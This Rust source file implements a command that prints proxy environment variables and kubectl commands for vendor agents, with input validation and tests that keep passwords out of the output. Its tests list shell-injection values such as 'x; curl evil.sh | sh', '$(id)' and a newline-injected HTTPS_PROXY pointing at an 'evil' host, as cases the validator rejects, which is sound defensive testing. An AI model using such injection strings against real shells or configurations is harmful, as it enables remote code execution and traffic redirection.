//! `egressd agent-env`: the proxy environment for a vendor's agents (both cases of every variable, a NO_PROXY
//! that works the same in Go, curl and Python) and the `kubectl set env` commands for the workloads the vendor
//! documents name. Pure.

use crate::noproxy;
use crate::vendors::Profile;
use ipnet::IpNet;

pub struct Request<'a> {
    pub proxy_url: &'a str,
    pub profile: &'a Profile,
    pub pod_cidr: Option<IpNet>,
    pub service_cidr: Option<IpNet>,
    pub cluster_domain: &'a str,
    /// Overrides the namespace the vendor documents give (or fills it in where they give none).
    pub namespace: Option<&'a str>,
}

/// The shell variable the printed commands read the proxy password from: the password itself is never printed.
pub const PASSWORD_VAR: &str = "EGRESSD_PROXY_PASSWORD";

/// A proxy URL with its credentials taken apart: `shown` has `${EGRESSD_PROXY_PASSWORD}` where the password was.
#[derive(Debug, PartialEq, Eq)]
pub struct ProxyUrl {
    pub shown: String,
    pub user: Option<String>,
}

/// Parse the proxy URL: `http://[user:password@]host:port`, or `https://` for egressd's TLS listener. The
/// user is kept (Basic credentials give the agents a client group of their own); the password is replaced by
/// `${EGRESSD_PROXY_PASSWORD}` and never appears in an error or in the output.
pub fn parse_proxy_url(url: &str) -> Result<ProxyUrl, String> {
    let (scheme, rest) = match url.split_once("://") {
        Some((s @ ("http" | "https"), rest)) => (s, rest),
        _ if url.contains('@') => {
            return Err("write the proxy URL as http://[user:password@]host:port, e.g. \
                        http://castai:PASSWORD@egressd.egressd.svc:3128 (not repeated here: it may hold a password)"
                .to_string())
        }
        _ => (url, ""),
    };
    let Some((userinfo, host)) = rest.rsplit_once('@') else {
        check_proxy_url(url)?;
        return Ok(ProxyUrl {
            shown: url.trim_end_matches('/').to_string(),
            user: None,
        });
    };
    let host_url = format!("{scheme}://{host}");
    check_proxy_url(&host_url).map_err(|e| {
        e.replace(
            &host_url,
            &format!("{scheme}://{{user}}:{{password}}@{host}"),
        )
    })?;
    let unreserved = |c: char| c.is_ascii_alphanumeric() || "-._~%".contains(c);
    let (user, password) = userinfo.split_once(':').unwrap_or((userinfo, ""));
    if user.is_empty() || password.is_empty() || !user.chars().all(unreserved) {
        return Err(format!(
            "{scheme}://***@{host}: credentials in the proxy URL are user:password (the user letters, digits, \
             - . _ ~ or %XX; percent-encode reserved characters of the password)"
        ));
    }
    Ok(ProxyUrl {
        shown: format!(
            "{scheme}://{user}:${{{PASSWORD_VAR}}}@{}",
            host.trim_end_matches('/')
        ),
        user: Some(user.to_string()),
    })
}

/// Check the proxy URL without credentials: `http://host:port` (the plain listener), or `https://host:port` for
/// egressd's TLS listener (`listen_tls`), which clients then reach over TLS.
pub fn check_proxy_url(url: &str) -> Result<(), String> {
    let Some(rest) = url
        .strip_prefix("http://")
        .or_else(|| url.strip_prefix("https://"))
    else {
        return Err(format!(
            "{url:?}: write the proxy URL as http://host:port, e.g. http://egressd.egressd.svc:3128 \
             (or https://host:port for egressd's TLS listener)"
        ));
    };
    let authority = rest.trim_end_matches('/');
    if authority.is_empty() || authority.contains(['/', '@', ' ']) {
        return Err(format!(
            "{url:?}: write the proxy URL as http://host:port (or https://) with nothing after the port"
        ));
    }
    // The proxy's own authority parser: a port is required (without one, clients would use 80 or 443, where
    // egressd does not listen by default), 1 to 65535, and an IPv6 address goes in brackets.
    crate::target::parse_authority(authority, None)
        .map(|_| ())
        .map_err(|e| {
            format!(
                "{url:?}: {e}; write it as http://host:port, e.g. http://egressd.egressd.svc:3128 or \
                 http://[fd00::5]:3128"
            )
        })
}

/// An RFC 1123 label as Kubernetes requires of namespace names: 1 to 63 lowercase letters, digits and '-',
/// starting and ending with a letter or digit.
fn is_label(s: &str) -> bool {
    (1..=63).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// Check `--namespace`: it is printed into a shell command, so only a Kubernetes namespace name passes.
pub fn check_namespace(ns: &str) -> Result<(), String> {
    if is_label(ns) {
        Ok(())
    } else {
        Err(format!(
            "--namespace {:?} is not a Kubernetes namespace name: 1 to 63 lowercase letters, digits and '-', \
             starting and ending with a letter or digit (e.g. castai-agent)",
            ns.escape_default().to_string()
        ))
    }
}

/// Check `--cluster-domain`: it becomes NO_PROXY entries (and a line of the printed environment), so only a
/// DNS name of RFC 1123 labels passes: no ',', spaces, newlines or shell text.
pub fn check_cluster_domain(domain: &str) -> Result<(), String> {
    let name = domain.strip_suffix('.').unwrap_or(domain);
    if name.len() <= 253 && name.split('.').all(is_label) {
        Ok(())
    } else {
        Err(format!(
            "--cluster-domain {:?} is not a DNS name: dot-separated labels of lowercase letters, digits and '-' \
             (e.g. cluster.local; kubelet's clusterDomain)",
            domain.escape_default().to_string()
        ))
    }
}

fn quote(v: &str) -> String {
    format!("'{}'", v.replace('\'', r"'\''"))
}

pub fn render(r: &Request) -> Result<String, String> {
    let parsed = parse_proxy_url(r.proxy_url)?;
    check_cluster_domain(r.cluster_domain)?;
    if let Some(ns) = r.namespace {
        check_namespace(ns)?;
    }
    let cluster_domain = r.cluster_domain.trim_end_matches('.');
    let proxy = parsed.shown.as_str();
    let no_proxy = noproxy::suggest(r.pod_cidr, r.service_cidr, cluster_domain);
    let vars = [
        ("HTTP_PROXY", proxy),
        ("HTTPS_PROXY", proxy),
        ("NO_PROXY", no_proxy.as_str()),
        ("http_proxy", proxy),
        ("https_proxy", proxy),
        ("no_proxy", no_proxy.as_str()),
    ];
    let p = r.profile;
    let mut out = format!(
        "# Proxy environment for {} ({}) through egressd at {proxy}\n",
        p.name, p.title
    );
    for (k, v) in vars {
        out.push_str(&format!("{k}={v}\n"));
    }
    out.push_str(
        "\n# Both cases are set because Go reads the upper-case variables and curl and Python the lower-case ones.\n",
    );
    out.push_str(if proxy.starts_with("https://") {
        "# The proxy URL is https://: agents speak TLS to egressd's TLS listener (listen_tls) and must trust its\n\
         # certificate (for Go, its CA in the system trust store or SSL_CERT_FILE; for curl, --proxy-cacert).\n"
    } else {
        "# HTTPS_PROXY is http:// on purpose: egressd speaks plain HTTP to clients and tunnels https with CONNECT.\n"
    });
    if r.pod_cidr.is_none() || r.service_cidr.is_none() {
        out.push_str(
            "# WARNING: without --pod-cidr and --service-cidr, NO_PROXY does not cover pod IPs or the API server's\n\
             # IP (KUBERNETES_SERVICE_HOST); agents would send those through egressd, which refuses private addresses.\n",
        );
    }
    out.push_str(
        "# Python urllib cannot match CIDRs: pod IPs go through the proxy for urllib-based tools.\n",
    );
    if let Some(user) = &parsed.user {
        out.push_str(&format!(
            "# The proxy URLs carry Basic credentials for user {user} (give them a client group with that user in\n\
             # egressd's clients: its decisions then name the group). The password is not printed: set it in the shell\n\
             # first (read -rs {PASSWORD_VAR}; export {PASSWORD_VAR}), percent-encoded; the commands below keep the\n\
             # URLs in a Secret.\n"
        ));
    }

    out.push_str("\n# kubectl\n");
    let Some(agents) = &p.agents else {
        out.push_str(&format!(
            "# The vendor documents for {} name no agent workloads; set the variables above on them yourself.\n",
            p.name
        ));
        return Ok(out);
    };
    let namespace = r
        .namespace
        .map(str::to_string)
        .or_else(|| agents.namespace.clone());
    let ns = namespace
        .clone()
        .unwrap_or_else(|| "<namespace>".to_string());
    let assignments: Vec<String> = vars
        .iter()
        .map(|(k, v)| format!("{k}={}", quote(v)))
        .collect();
    if parsed.user.is_some() {
        // The shell fills in the password (double quotes); the rest of the URL has no shell metacharacters.
        let literals: Vec<String> = vars
            .iter()
            .filter(|(k, _)| k.ends_with("_PROXY") || k.ends_with("_proxy"))
            .filter(|(k, _)| !k.eq_ignore_ascii_case("no_proxy"))
            .map(|(k, v)| format!("--from-literal={k}=\"{v}\""))
            .collect();
        out.push_str(&format!(
            "kubectl -n {ns} create secret generic egressd-proxy-credentials {}\n",
            literals.join(" ")
        ));
        let no_proxy: Vec<&String> = assignments
            .iter()
            .filter(|a| a.starts_with("NO_PROXY=") || a.starts_with("no_proxy="))
            .collect();
        for w in &agents.workloads {
            out.push_str(&format!(
                "kubectl -n {ns} set env {w} --from=secret/egressd-proxy-credentials\n\
                 kubectl -n {ns} set env {w} {} {}\n",
                no_proxy[0], no_proxy[1]
            ));
        }
    } else {
        for w in &agents.workloads {
            out.push_str(&format!(
                "kubectl -n {ns} set env {w} {}\n",
                assignments.join(" ")
            ));
        }
    }
    if namespace.is_none() {
        out.push_str("# The vendor documents do not name the namespace: replace <namespace> or pass --namespace.\n");
    }
    out.push_str(&format!(
        "# {}\n# (source: {})\n",
        agents.note.split_whitespace().collect::<Vec<_>>().join(" "),
        agents.source
    ));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vendors;

    fn req<'a>(profile: &'a Profile, url: &'a str) -> Request<'a> {
        Request {
            proxy_url: url,
            profile,
            pod_cidr: Some("10.244.0.0/16".parse().unwrap()),
            service_cidr: Some("10.96.0.0/12".parse().unwrap()),
            cluster_domain: "cluster.local",
            namespace: None,
        }
    }

    #[test]
    fn castai_block_and_commands() {
        let p = vendors::find("castai-us").unwrap();
        let out = render(&req(p, "http://egressd.egressd.svc:3128")).unwrap();
        let no_proxy = noproxy::suggest(
            Some("10.244.0.0/16".parse().unwrap()),
            Some("10.96.0.0/12".parse().unwrap()),
            "cluster.local",
        );
        for k in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] {
            assert!(
                out.contains(&format!("\n{k}=http://egressd.egressd.svc:3128\n")),
                "{k}\n{out}"
            );
        }
        assert!(out.contains(&format!("\nNO_PROXY={no_proxy}\n")), "{out}");
        assert!(out.contains(&format!("\nno_proxy={no_proxy}\n")), "{out}");
        assert!(
            out.contains("kubectl -n <namespace> set env deployment/castai-agent HTTP_PROXY='http://egressd.egressd.svc:3128' "),
            "{out}"
        );
        assert!(out.contains("do not name the namespace"), "{out}");
        assert!(
            out.contains("source: Cast AI, \"Communication requirements\""),
            "{out}"
        );
        assert!(!out.contains("WARNING"), "{out}");

        let mut r = req(p, "http://egressd:3128");
        r.namespace = Some("castai-agent");
        r.pod_cidr = None;
        let out = render(&r).unwrap();
        assert!(
            out.contains("kubectl -n castai-agent set env deployment/castai-agent"),
            "{out}"
        );
        assert!(out.contains("WARNING: without --pod-cidr"), "{out}");
    }

    #[test]
    fn cloudcasa_uses_the_documented_namespace() {
        let p = vendors::find("cloudcasa").unwrap();
        let out = render(&req(p, "http://egressd:3128/")).unwrap();
        assert!(
            out.contains(
                "kubectl -n cloudcasa-io set env deployment --all HTTP_PROXY='http://egressd:3128'"
            ),
            "{out}"
        );
        assert!(!out.contains("<namespace>"), "{out}");
        let p = vendors::find("cloudcasa-ui").unwrap();
        assert!(render(&req(p, "http://egressd:3128"))
            .unwrap()
            .contains("name no agent workloads"));
    }

    #[test]
    fn namespace_and_cluster_domain_are_names() {
        let p = vendors::find("castai-us").unwrap();
        for ns in [
            "x; curl evil.sh | sh",
            "a b",
            "$(id)",
            "Castai",
            "-x",
            "x-",
            "",
            "a.b",
            &"a".repeat(64),
        ] {
            let mut r = req(p, "http://egressd:3128");
            r.namespace = Some(ns);
            let e = render(&r).unwrap_err();
            assert!(e.contains("--namespace"), "{ns:?}: {e}");
        }
        for domain in [
            "cluster.local,evil.com",
            "cluster.local\nHTTPS_PROXY=http://evil:3128",
            "cluster.local evil.com",
            "cluster..local",
            "",
            ".",
            "*.local",
            "cluster.local/x",
            "$(id).local",
        ] {
            let mut r = req(p, "http://egressd:3128");
            r.cluster_domain = domain;
            let e = render(&r).unwrap_err();
            assert!(e.contains("--cluster-domain"), "{domain:?}: {e}");
            assert!(!e.contains('\n'), "the value is escaped: {e}");
        }
        let mut r = req(p, "http://egressd:3128");
        r.namespace = Some("castai-agent");
        r.cluster_domain = "k8s.example-corp.internal.";
        let out = render(&r).unwrap();
        assert!(out.contains(".k8s.example-corp.internal,"), "{out}");
        assert!(out.contains("kubectl -n castai-agent set env"), "{out}");
    }

    #[test]
    fn credentials_in_the_proxy_url_are_never_printed() {
        let p = vendors::find("castai-us").unwrap();
        let mut r = req(p, "http://castai:s3cr%2Ft@egressd.egressd.svc:3128");
        r.namespace = Some("castai-agent");
        let out = render(&r).unwrap();
        assert!(!out.contains("s3cr"), "{out}");
        assert!(
            out.contains(
                "\nHTTPS_PROXY=http://castai:${EGRESSD_PROXY_PASSWORD}@egressd.egressd.svc:3128\n"
            ),
            "{out}"
        );
        assert!(out.contains("user castai"), "{out}");
        assert!(
            out.contains("kubectl -n castai-agent create secret generic egressd-proxy-credentials --from-literal=HTTP_PROXY=\"http://castai:${EGRESSD_PROXY_PASSWORD}@egressd.egressd.svc:3128\""),
            "{out}"
        );
        assert!(
            out.contains("kubectl -n castai-agent set env deployment/castai-agent --from=secret/egressd-proxy-credentials\n"),
            "{out}"
        );
        assert!(
            out.contains(
                "kubectl -n castai-agent set env deployment/castai-agent NO_PROXY='localhost,"
            ),
            "{out}"
        );
        let tls = parse_proxy_url("https://castai:tok@egressd:3129/").unwrap();
        assert_eq!(
            tls.shown,
            "https://castai:${EGRESSD_PROXY_PASSWORD}@egressd:3129"
        );
        assert_eq!(tls.user.as_deref(), Some("castai"));
        // Bad credentials or a bad host: an error that does not repeat the password.
        for bad in [
            "http://castai@egressd:3128",
            "http://hunter2@egressd:3128",
            "castai:hunter2@egressd:3128",
            "socks5://castai:hunter2@egressd:3128",
            "http://castai:@egressd:3128",
            "http://:hunter2@egressd:3128",
            "http://cast ai:hunter2@egressd:3128",
            "http://castai:hunter2@egressd",
            "http://castai:hunter2@egressd:3128/path",
        ] {
            let err = parse_proxy_url(bad).unwrap_err();
            assert!(!err.contains("hunter2"), "{bad}: {err}");
        }
        assert!(parse_proxy_url("http://castai:hunter2@egressd")
            .unwrap_err()
            .contains("{password}"));
    }

    #[test]
    fn proxy_url_is_http_or_https() {
        let p = vendors::find("castai-us").unwrap();
        let tls = render(&req(p, "https://egressd:3129")).unwrap();
        assert!(tls.contains("HTTPS_PROXY=https://egressd:3129"), "{tls}");
        assert!(tls.contains("TLS listener"), "{tls}");
        assert!(!render(&req(p, "http://egressd:3128"))
            .unwrap()
            .contains("TLS listener"));
        assert!(render(&req(p, "egressd:3128"))
            .unwrap_err()
            .contains("http://host:port"));
        assert!(render(&req(p, "http://egressd:3128/path")).is_err());
        assert!(check_proxy_url("http://10.0.0.5:3128").is_ok());
        assert!(check_proxy_url("http://[fd00::5]:3128").is_ok());
        for bad in [
            "http://egressd",
            "http://e:99999",
            "http://e:0",
            "http://:3128",
            "http://[fd00::5]",
        ] {
            assert!(check_proxy_url(bad).is_err(), "{bad:?} accepted");
        }
    }
}
